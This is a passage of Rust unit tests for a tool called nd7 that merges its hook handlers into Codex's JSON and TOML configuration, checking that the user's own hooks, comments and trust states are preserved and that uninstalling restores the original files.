        assert_eq!(
            trust_key("/h/.codex/hooks.json", "UserPromptSubmit", 2, 0),
            "/h/.codex/hooks.json:user_prompt_submit:2:0"
        );
    }

    #[test]
    fn json_install_appends_once_replaces_in_place_and_uninstalls() {
        let theirs = r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"mine"}]}]},"other":1}"#;
        let merged = install_json(Some(theirs), &old(ND7), events()).expect("merges");
        assert_eq!(merged.changes.len(), events().len());
        let text = merged.text.expect("changed");
        let v: Value = serde_json::from_str(&text).expect("json");
        assert_eq!(v["other"], 1);
        assert_eq!(v["hooks"]["PreToolUse"][0]["hooks"][0]["command"], "mine");
        assert_eq!(
            v["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
            command(&old(ND7))
        );
        assert_eq!(v["hooks"]["SessionEnd"][0]["hooks"][0]["timeout"], 3);
        assert!(v["hooks"]["Stop"][0]["hooks"][0].get("timeout").is_none());
        assert_eq!(
            install_json(Some(&text), &old(ND7), events())
                .expect("again")
                .text,
            None
        );
        // A user's group added after nd7's keeps its place when nd7 moves.
        let mut v2 = v.clone();
        v2["hooks"]["PreToolUse"]
            .as_array_mut()
            .expect("list")
            .push(json!({"hooks": [{"type": "command", "command": "later"}]}));
        let moved =
            install_json(Some(&v2.to_string()), &old("/new/nd7"), events()).expect("merges");
        assert!(
            moved
                .changes
                .contains(&Change::Replaced("PreToolUse".into()))
        );
        let moved: Value = serde_json::from_str(&moved.text.expect("changed")).expect("json");
        assert_eq!(
            moved["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
            command(&old("/new/nd7"))
        );
        assert_eq!(
            moved["hooks"]["PreToolUse"][2]["hooks"][0]["command"],
            "later"
        );
        let found = found_json(Some(&moved.to_string())).expect("found");
        assert_eq!(found.len(), events().len());
        let back = uninstall_json(Some(&text)).expect("uninstalls");
        let back: Value = serde_json::from_str(&back.text.expect("changed")).expect("json");
        let original: Value = serde_json::from_str(theirs).expect("json");
        assert_eq!(back, original);
    }

    /// Setup run again with nd7-record beside nd7 moves every `nd7 record`
    /// handler to it in place (Codex keys trust by position), says so, and
    /// takes the new form out on uninstall; in both files.
    #[test]
    fn older_handlers_move_to_nd7_record_in_place() {
        let theirs = r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"mine"}]}]}}"#;
        let before = install_json(Some(theirs), &old(ND7), events()).expect("merges");
        let before = before.text.expect("changed");
        let merged = install_json(Some(&before), &lean(), events()).expect("merges");
        assert_eq!(merged.changes.len(), events().len());
        assert!(
            merged.changes.iter().all(|c| matches!(c, Change::Moved(_))),
            "{:?}",
            merged.changes
        );
        let text = merged.text.expect("changed");
        let v: Value = serde_json::from_str(&text).expect("json");
        assert_eq!(v["hooks"]["PreToolUse"][0]["hooks"][0]["command"], "mine");
        assert_eq!(
            v["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
            command(&lean())
        );
        assert_eq!(
            install_json(Some(&text), &lean(), events())
                .expect("again")
                .text,
            None
        );
        let back: Value = serde_json::from_str(
            &uninstall_json(Some(&text))
                .expect("uninstalls")
                .text
                .expect("changed"),
        )
        .expect("json");
        assert_eq!(back, serde_json::from_str::<Value>(theirs).expect("json"));

        let toml = install_toml(None, &old(ND7), events())
            .expect("merges")
            .text
            .expect("text");
        let merged = install_toml(Some(&toml), &lean(), events()).expect("merges");
        assert!(
            merged.changes.iter().all(|c| matches!(c, Change::Moved(_))),
            "{:?}",
            merged.changes
        );
        let text = merged.text.expect("changed");
        let found = found_toml(Some(&text)).expect("found");
        assert!(
            found.iter().all(|f| f.command == command(&lean())),
            "{text}"
        );
        assert_eq!(
            install_toml(Some(&text), &lean(), events())
                .expect("again")
                .text,
            None
        );
        assert!(
            found_toml(uninstall_toml(Some(&text)).expect("ok").text.as_deref())
                .expect("ok")
                .is_empty()
        );
    }

    #[test]
    fn broken_files_are_refused_with_line_and_column() {
        let e = install_json(Some("{\n  \"hooks\": [,\n}"), &lean(), events()).expect_err("broken");
        assert!(matches!(e, CodexConfigError::Json { line: 2, .. }), "{e}");
        let e =
            install_toml(Some("model = \"x\"\n[hooks\n"), &lean(), events()).expect_err("broken");
        assert!(
            matches!(
                e,
                CodexConfigError::Toml {
                    line: 2,
                    column: 7,
                    ..
                }
            ),
            "{e}"
        );
        assert!(matches!(
            install_json(Some(r#"{"hooks":{"Stop":{}}}"#), &lean(), events()),
            Err(CodexConfigError::EventNotList(_))
        ));
        assert!(matches!(
            install_toml(Some("hooks = 3\n"), &lean(), events()),
            Err(CodexConfigError::HooksNotTable)
        ));
    }

    #[test]
    fn toml_install_keeps_comments_and_both_spellings() {
        let theirs = "# my settings\nmodel = \"gpt-5.5\" # keep me\n\n[[hooks.PreToolUse]]\nmatcher = \"Bash\" # mine\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"mine\"\n\n[hooks]\nStop = [{ hooks = [{ type = \"command\", command = \"s\" }] }]\n\n[hooks.state.\"/h/.codex/config.toml:pre_tool_use:0:0\"]\ntrusted_hash = \"sha256:00\"\n";
        let merged = install_toml(Some(theirs), &lean(), events()).expect("merges");
        let text = merged.text.expect("changed");
        assert!(
            text.contains("# my settings") && text.contains("# keep me") && text.contains("# mine"),
            "{text}"
        );
        let found = found_toml(Some(&text)).expect("found");
        assert_eq!(found.len(), events().len(), "{text}");
        let pre = found.iter().find(|f| f.event == "PreToolUse").expect("pre");
        assert_eq!((pre.group, pre.handler), (1, 0));
        let stop = found.iter().find(|f| f.event == "Stop").expect("stop");
        assert_eq!((stop.group, stop.handler), (1, 0));
        assert!(toml_has_hooks(Some(&text)).expect("parses"));
        // Codex reads what was written.
        let doc: DocumentMut = text.parse().expect("valid TOML");
        assert!(doc["hooks"]["SessionEnd"].is_array_of_tables());
        assert_eq!(
            install_toml(Some(&text), &lean(), events())
                .expect("again")
                .text,
            None
        );
        let back = uninstall_toml(Some(&text)).expect("uninstalls");
        let back = back.text.expect("changed");
        assert!(found_toml(Some(&back)).expect("parses").is_empty());
        assert!(back.contains("command = \"mine\"") && back.contains("command = \"s\""));
        assert!(back.contains("# my settings") && back.contains("# mine"));
        assert_eq!(
            trust_states(Some(&back)).expect("parses").len(),
            1,
            "the user's trust state stays"
        );
    }

    #[test]
    fn trust_of_nd7s_hooks_only_is_taken_out() {
        let text = "[hooks.state.\"k1\"]\ntrusted_hash = \"sha256:aa\"\n\n[hooks.state.\"k2\"]\ntrusted_hash = \"sha256:bb\"\n";
        let states = trust_states(Some(text)).expect("parses");
        assert_eq!(states["k1"].trusted_hash.as_deref(), Some("sha256:aa"));
        let out = remove_trust(
            Some(text),
            &[
                ("k1".into(), "sha256:aa".into()),
                ("k2".into(), "sha256:other".into()),
            ],
        )
        .expect("ok");
        let out = out.text.expect("changed");
        let states = trust_states(Some(&out)).expect("parses");
        assert_eq!(states.keys().collect::<Vec<_>>(), ["k2"]);
    }

    #[test]
    fn hooks_turned_off_are_noticed() {
        assert!(hooks_disabled(Some("[features]\nhooks = false\n")).expect("ok"));
        assert!(hooks_disabled(Some("[features]\ncodex_hooks = false\n")).expect("ok"));
        assert!(!hooks_disabled(Some("[features]\nhooks = true\n")).expect("ok"));
        assert!(!hooks_disabled(None).expect("ok"));
    }

    #[test]
    fn the_installed_codexs_events_are_read_from_its_schema_and_checked() {
        // The shape Codex 0.171.0 writes (v2/HooksListResponse.json).
        let schema = r#"{"definitions":{"HookEventName":{"enum":["preModelRequest","postModelRequest","preToolUse","permissionRequest","postToolUse","preCompact","postCompact","sessionStart","sessionEnd","userPromptSubmit","subagentStart","subagentStop","stop","interrupt"],"type":"string"}}}"#;
        let known = schema_events(schema).expect("names");
        assert_eq!(known.len(), 14);
        assert_eq!(known[0], "PreModelRequest");
        let mut sorted = known.clone();
        sorted.sort();
        let mut ours: Vec<String> = events().iter().map(|e| e.to_string()).collect();
        ours.sort();
        assert_eq!(sorted, ours, "nd7 knows exactly 0.171.0's events");
        // One name that cannot be an event spoils the answer.
        for bad in [
            r#"["stop","x y"]"#,
            r#"["stop",""]"#,
            r#"["stop",3]"#,
            r#"["../x"]"#,
        ] {
            let text = format!(r#"{{"definitions":{{"HookEventName":{{"enum":{bad}}}}}}}"#);
            assert_eq!(schema_events(&text), None, "{bad}");
        }
        assert_eq!(schema_events(r#"{"definitions":{}}"#), None);
        assert_eq!(schema_events("not json"), None);
        // What nd7 registers: its own, then the new ones in Codex's order.
        let newer = vec![
            "StopFailure".to_string(),
            "Stop".to_string(),
            "PreShell".to_string(),
        ];
        let all = with_known(Some(&newer));
        assert_eq!(&all[..events().len()], events());
        assert_eq!(&all[events().len()..], ["StopFailure", "PreShell"]);
        assert_eq!(with_known(None), events());
    }
}
